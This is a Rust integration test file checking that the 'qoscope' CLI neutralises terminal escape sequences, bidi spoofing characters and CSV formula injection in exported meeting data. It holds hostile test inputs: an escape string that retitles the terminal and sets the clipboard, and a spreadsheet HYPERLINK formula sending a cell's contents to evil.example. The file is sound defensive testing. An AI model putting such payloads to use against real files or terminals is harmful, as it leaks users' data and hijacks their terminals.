//! Hostile text through the real `qoscope` binary: terminal escapes and bidi controls in a
//! damaged snapshot or in names never reach a terminal, and the canonical CSV keeps a
//! spreadsheet from evaluating a name as a formula (`--raw-text` writes names as they came).

use std::path::Path;
use std::process::{Command, Output, Stdio};

/// Retitles the terminal (OSC 0), sets the clipboard (OSC 52), then reverses what follows.
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}]52;c;aGk=\u{7}\u{202e}gnp.exe\u{9b}2J";

fn qoscope(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_qoscope"))
        .args(args)
        .env("LANG", "C.UTF-8")
        // Not the real app data directory: the app's settings would change the thresholds.
        .env("XDG_DATA_HOME", concat!(env!("CARGO_TARGET_TMPDIR"), "/no-app-data"))
        .stdin(Stdio::null())
        .output()
        .expect("the qoscope binary runs")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Control characters (but the final line feeds) and bidi controls in `text`.
fn hidden_characters(text: &str) -> Vec<char> {
    text.chars().filter(|c| *c != '\n' && qoscope_model::text::is_hidden(*c)).collect()
}

/// The demo snapshot with `edit` applied to its text, written to `dir`.
fn demo_edited(dir: &Path, name: &str, edit: impl Fn(String) -> String) -> String {
    let demo = dir.join("demo.qoscope.json");
    let o = qoscope(&["demo", "--out", demo.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    let path = dir.join(name);
    std::fs::write(&path, edit(std::fs::read_to_string(&demo).unwrap())).unwrap();
    path.to_str().unwrap().to_owned()
}

/// Renames Priya Raman (a participant of the demo meeting) to `to`.
fn rename_priya(to: &str) -> impl Fn(String) -> String + '_ {
    move |json| json.replace("\"Priya Raman\"", &serde_json::to_string(to).unwrap())
}

#[test]
fn an_error_echoing_a_damaged_file_cannot_drive_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let kind = serde_json::to_string(HOSTILE).unwrap();
    // The source's kind is a closed set (an exchange's kind is not: unknown kinds read as Other,
    // so newer snapshots open in older builds).
    let snapshot = demo_edited(dir.path(), "damaged.qoscope.json", |json| {
        json.replacen("\"source\":{\"kind\":\"demo\"", &format!("\"source\":{{\"kind\":{kind}"), 1)
    });
    for args in [vec!["summary", &snapshot], vec!["export", &snapshot, "--format", "csv", "--out", "-"]] {
        let o = qoscope(&args);
        assert_eq!(o.status.code(), Some(1), "{args:?}: {}", stderr(&o));
        let text = stderr(&o);
        assert!(text.contains("unknown variant"), "serde's message names the bad value: {text}");
        assert_eq!(hidden_characters(&text), Vec::<char>::new(), "{text:?}");
        assert!(text.contains("\u{FFFD}]0;pwned\u{FFFD}"), "the reader sees something was there: {text:?}");
    }
}

#[test]
fn csv_names_are_guarded_against_formulas_and_raw_text_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"ok\")";
    let snapshot = demo_edited(dir.path(), "formula.qoscope.json", rename_priya(formula));
    let guarded = qoscope(&["export", &snapshot, "--format", "csv", "--out", "-"]);
    assert!(guarded.status.success(), "{}", stderr(&guarded));
    let guarded = String::from_utf8(guarded.stdout).unwrap();
    let quoted = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"ok\"\")\"";
    assert!(guarded.contains(&format!("\n16778240,{quoted},")), "a leading ' keeps Excel from evaluating it");
    // Numbers never change: negative dBm values stay negative numbers.
    assert!(guarded.lines().any(|l| l.ends_with(",dBm") && l.split(',').nth(5).is_some_and(|v| v.starts_with('-'))));

    let raw = qoscope(&["export", &snapshot, "--format", "csv", "--raw-text", "--out", "-"]);
    assert!(raw.status.success(), "{}", stderr(&raw));
    let raw = String::from_utf8(raw.stdout).unwrap();
    let as_sent = "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"ok\"\")\"";
    assert!(raw.contains(&format!("\n16778240,{as_sent},")), "as before");
    assert!(raw.replace(as_sent, "X") == guarded.replace(quoted, "X"), "only the name cells differ");

    for format in ["json", "pdf"] {
        let o = qoscope(&["export", &snapshot, "--format", format, "--raw-text", "--out", "-"]);
        assert_eq!(o.status.code(), Some(2), "{format}: {}", stderr(&o));
        assert!(stderr(&o).contains("--raw-text applies to csv"), "{}", stderr(&o));
    }
}

#[test]
fn json_and_summary_output_carry_no_raw_escape_or_bidi_character() {
    let dir = tempfile::tempdir().unwrap();
    let name = format!("Priya{HOSTILE}\u{7f}");
    let snapshot = demo_edited(dir.path(), "hostile.qoscope.json", rename_priya(&name));
    for args in [
        vec!["export", &snapshot, "--format", "json", "--out", "-"],
        vec!["summary", &snapshot, "--json"],
        vec!["summary", &snapshot],
    ] {
        let o = qoscope(&args);
        assert!(o.status.success(), "{args:?}: {}", stderr(&o));
        let text = String::from_utf8(o.stdout).unwrap();
        assert_eq!(hidden_characters(&text), Vec::<char>::new(), "{args:?}");
    }
    // The JSON still holds the name exactly (as \u escapes, which mean the same).
    let o = qoscope(&["export", &snapshot, "--format", "json", "--out", "-"]);
    let doc: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    let names: Vec<&str> =
        doc["timelines"].as_array().unwrap().iter().filter_map(|t| t["display_name"].as_str()).collect();
    assert!(names.contains(&name.as_str()), "{names:?}");
}

/// A CSV on a terminal shows names without their escape sequences; a CSV in a file stays
/// byte-exact. `script` (util-linux) gives the binary a terminal as standard output.
#[cfg(target_os = "linux")]
#[test]
fn csv_on_a_terminal_is_sanitized_and_in_a_file_byte_exact() {
    let dir = tempfile::tempdir().unwrap();
    let name = format!("Priya{HOSTILE}");
    let snapshot = demo_edited(dir.path(), "hostile.qoscope.json", rename_priya(&name));
    let file = dir.path().join("out.csv");
    let o = qoscope(&["export", &snapshot, "--format", "csv", "--out", file.to_str().unwrap()]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(std::fs::read_to_string(&file).unwrap().contains(&format!("\n16778240,{name},")), "a file keeps the name");

    let command = format!("'{}' export '{snapshot}' --format csv --out -", env!("CARGO_BIN_EXE_qoscope"));
    let o = Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env("LANG", "C.UTF-8")
        .stdin(Stdio::null())
        .output()
        .expect("util-linux `script` runs");
    assert!(o.status.success(), "{}", stderr(&o));
    let shown = String::from_utf8(o.stdout).unwrap().replace("\r\n", "\n");
    assert!(shown.contains("\n16778240,Priya\u{FFFD}]0;pwned\u{FFFD}"), "{}", &shown[..400.min(shown.len())]);
    assert_eq!(hidden_characters(&shown), Vec::<char>::new());
}
